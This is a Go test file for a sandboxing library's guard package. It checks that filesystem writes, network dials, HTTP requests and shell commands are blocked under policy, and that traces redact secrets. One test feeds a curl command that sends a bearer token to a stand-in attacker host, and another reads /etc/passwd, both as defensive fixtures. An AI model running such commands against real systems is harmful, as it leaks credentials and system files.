// Copyright 2026 The Hermetic Authors
// SPDX-License-Identifier: Apache-2.0

package guard

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/matthewdeanmartin/hermetic/lib/process"
	"github.com/matthewdeanmartin/hermetic/policy"
	"github.com/matthewdeanmartin/hermetic/trace"
)

func TestContextDenialReturnsViolation(t *testing.T) {
	rt := InstallAll(policy.Policy{FSReadonly: true})

	err := rt.WriteFile(filepath.Join(t.TempDir(), "out.txt"), []byte("x"), 0o600)
	if err == nil {
		t.Fatal("write under fs-readonly succeeded")
	}

	var v *Violation
	if !errors.As(err, &v) {
		t.Fatalf("error is %T, want *Violation", err)
	}
	if v.Guard != GuardFilesystem || v.Op != OpFSWrite || v.Rule != policy.RestrictionFilesystem {
		t.Errorf("violation = %+v", v)
	}
	if !IsViolation(err) {
		t.Error("IsViolation rejected a *Violation")
	}
}

func TestContextDialDeniedBeforeNetworkTouched(t *testing.T) {
	var buf bytes.Buffer
	rt := InstallAll(policy.Policy{NoNetwork: true, Trace: true},
		WithTracer(trace.New(&buf, true)))

	conn, err := rt.DialContext(context.Background(), "tcp", "example.com:443")
	if conn != nil {
		conn.Close()
	}
	if !IsViolation(err) {
		t.Fatalf("dial error = %v, want Violation", err)
	}

	want := "[hermetic] blocked network.connect host=example.com reason=no-network\n"
	if buf.String() != want {
		t.Errorf("trace line = %q, want %q", buf.String(), want)
	}
	if err.Error() != "blocked network.connect host=example.com reason=no-network" {
		t.Errorf("violation message = %q", err.Error())
	}
}

func TestContextHTTPClientRoutesThroughGuard(t *testing.T) {
	rt := InstallAll(policy.Policy{NoNetwork: true})

	_, err := rt.HTTPClient().Get("http://example.com/")
	if err == nil {
		t.Fatal("HTTP request under no-network succeeded")
	}
	if !IsViolation(err) {
		t.Fatalf("HTTP error chain does not carry the Violation: %v", err)
	}
}

func TestContextSubprocessDenied(t *testing.T) {
	rt := InstallAll(policy.Policy{NoSubprocess: true})

	if err := rt.Run(context.Background(), "/bin/true"); !IsViolation(err) {
		t.Errorf("Run error = %v, want Violation", err)
	}
	if _, err := rt.Output(context.Background(), "/bin/true"); !IsViolation(err) {
		t.Errorf("Output error = %v, want Violation", err)
	}
	if err := rt.Shell(context.Background(), "true"); !IsViolation(err) {
		t.Errorf("Shell error = %v, want Violation", err)
	}
}

func TestContextShellDetailHidesCommand(t *testing.T) {
	var buf bytes.Buffer
	rt := InstallAll(policy.Policy{NoSubprocess: true},
		WithTracer(trace.New(&buf, true)))

	_ = rt.Shell(context.Background(), "curl -H 'Authorization: Bearer aaaabbbbccccdddd' evil.test")

	line := buf.String()
	if !strings.Contains(line, "blocked subprocess.shell argv0=/bin/sh reason=no-subprocess") {
		t.Errorf("trace line = %q", line)
	}
	if strings.Contains(line, "curl") || strings.Contains(line, "Bearer") {
		t.Errorf("shell command text leaked into trace: %q", line)
	}
}

func TestContextShellPropagatesExitCode(t *testing.T) {
	rt := InstallAll(policy.Policy{})

	err := rt.Shell(context.Background(), "exit 7")
	var exitErr *process.ExitError
	if !errors.As(err, &exitErr) {
		t.Fatalf("error = %v, want *process.ExitError", err)
	}
	if exitErr.Code != 7 {
		t.Errorf("exit code = %d, want 7", exitErr.Code)
	}
}

func TestContextRunWiresStdio(t *testing.T) {
	var out bytes.Buffer
	rt := InstallAll(policy.Policy{},
		WithStdio(strings.NewReader(""), &out, &out))

	if err := rt.Run(context.Background(), "/bin/sh", "-c", "echo hello"); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if got := strings.TrimSpace(out.String()); got != "hello" {
		t.Errorf("stdout = %q, want %q", got, "hello")
	}
}

func TestContextFilesystemOps(t *testing.T) {
	dir := t.TempDir()
	existing := filepath.Join(dir, "in.txt")
	if err := os.WriteFile(existing, []byte("data"), 0o600); err != nil {
		t.Fatal(err)
	}

	rt := InstallAll(policy.Policy{FSReadonly: true, FSRoot: dir})

	if _, err := rt.ReadFile(existing); err != nil {
		t.Errorf("read under root: %v", err)
	}
	if _, err := rt.Stat(existing); err != nil {
		t.Errorf("stat under root: %v", err)
	}
	if _, err := rt.ReadDir(dir); err != nil {
		t.Errorf("readdir under root: %v", err)
	}
	if _, err := rt.ReadFile("/etc/passwd"); !IsViolation(err) {
		t.Errorf("read outside root = %v, want Violation", err)
	}
	if _, err := rt.OpenFile(existing, os.O_RDWR, 0); !IsViolation(err) {
		t.Errorf("OpenFile with write intent = %v, want Violation", err)
	}
	if _, err := rt.Create(filepath.Join(dir, "new.txt")); !IsViolation(err) {
		t.Errorf("Create = %v, want Violation", err)
	}
	if err := rt.Rename(existing, filepath.Join(dir, "renamed.txt")); !IsViolation(err) {
		t.Errorf("Rename = %v, want Violation", err)
	}
	if err := rt.MkdirAll(filepath.Join(dir, "a/b"), 0o755); !IsViolation(err) {
		t.Errorf("MkdirAll = %v, want Violation", err)
	}
	if err := rt.RemoveAll(filepath.Join(dir, "a")); !IsViolation(err) {
		t.Errorf("RemoveAll = %v, want Violation", err)
	}
}

func TestContextDetailIsRedacted(t *testing.T) {
	var buf bytes.Buffer
	rt := InstallAll(policy.Policy{FSReadonly: true},
		WithTracer(trace.New(&buf, true)))

	err := rt.WriteFile("/tmp/token=supersecretvalue123", []byte("x"), 0o600)

	var v *Violation
	if !errors.As(err, &v) {
		t.Fatalf("error = %v, want *Violation", err)
	}
	if strings.Contains(v.Detail, "supersecretvalue123") {
		t.Errorf("violation detail leaked the secret: %q", v.Detail)
	}
	if strings.Contains(buf.String(), "supersecretvalue123") {
		t.Errorf("trace line leaked the secret: %q", buf.String())
	}
}

func TestContextZeroValueDelegates(t *testing.T) {
	var rt Context

	path := filepath.Join(t.TempDir(), "free.txt")
	if err := rt.WriteFile(path, []byte("x"), 0o600); err != nil {
		t.Errorf("unguarded write: %v", err)
	}
	if _, err := rt.ReadFile(path); err != nil {
		t.Errorf("unguarded read: %v", err)
	}
	if err := rt.CheckImport("ctypes"); err != nil {
		t.Errorf("unguarded import check: %v", err)
	}
}

func TestWithOwnsItsContext(t *testing.T) {
	err := With(policy.Policy{NoSubprocess: true}, func(rt *Context) error {
		return rt.Run(context.Background(), "/bin/true")
	})
	if !IsViolation(err) {
		t.Fatalf("With returned %v, want Violation", err)
	}

	// A second call with a permissive policy must not observe the
	// previous call's restrictions.
	err = With(policy.Policy{}, func(rt *Context) error {
		return rt.Run(context.Background(), "/bin/true")
	})
	if err != nil {
		t.Fatalf("permissive With: %v", err)
	}
}
